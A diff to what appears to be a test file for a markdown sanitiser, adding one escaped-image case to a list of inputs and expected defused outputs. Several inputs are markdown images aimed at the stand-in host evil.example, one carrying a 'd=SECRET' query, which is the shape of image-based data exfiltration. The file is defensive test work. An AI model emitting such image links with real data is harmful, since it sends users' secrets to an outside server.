@@ -99,6 +99,7 @@ def test_a_quotation_cannot_be_left(text: str) -> None:
         ("![logo](http://evil.example/p.png?d=SECRET)", "logo (image at evil.example)"),
         ('a ![](<//u:p@evil.example:8080/p.png> "title") b', "a (image at evil.example:8080) b"),
         ("![a [b] c](https://evil.example)", "a [b] c (image at evil.example)"),
+        (r"!\[logo\](http://evil.example/p.png)", "logo (image at evil.example)"),
         ("![dot](data:image/png;base64,iVBORw0KGgo=)", "dot (image)"),
         ("![logo][1]\n\n[1]: http://evil.example/p.png", "! [logo][1]\n\n[1] : http: //evil.example/p.png"),
         ("[click](https://evil.example/x?y=1)", "[click] (https: //evil.example/x?y=1)"),
